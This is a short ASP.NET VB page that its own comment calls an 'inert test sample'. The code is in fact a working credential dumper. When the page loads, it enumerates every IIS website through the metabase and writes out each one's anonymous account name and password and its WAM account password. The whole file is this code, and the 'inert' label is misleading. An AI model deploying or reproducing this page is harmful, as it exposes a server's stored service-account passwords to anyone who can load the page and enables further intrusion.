<%@ Page Language="VB" %>
<%@ Import Namespace="System.DirectoryServices" %>
<%-- inert test sample: every IIS site's stored anonymous and WAM account passwords printed --%>
<script runat="server">
Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
    Dim service As New DirectoryEntry("IIS://localhost/W3SVC")
    Dim sb As New System.Text.StringBuilder()
    For Each node As DirectoryEntry In service.Children
        If node.SchemaClassName = "IIsWebServer" Then
            Dim vdir As DirectoryEntry = node.Children.Find("ROOT", "IIsWebVirtualDir")
            sb.Append(node.Properties("ServerComment").Value & " | ")
            sb.Append(vdir.Properties("AnonymousUserName").Value & " / ")
            sb.Append(vdir.Properties("AnonymousUserPass").Value & " | ")
            sb.Append(vdir.Properties("WAMUserPass").Value & "<br/>")
        End If
    Next
    litOut.Text = sb.ToString()
End Sub
</script>
<asp:Literal ID="litOut" runat="server" />
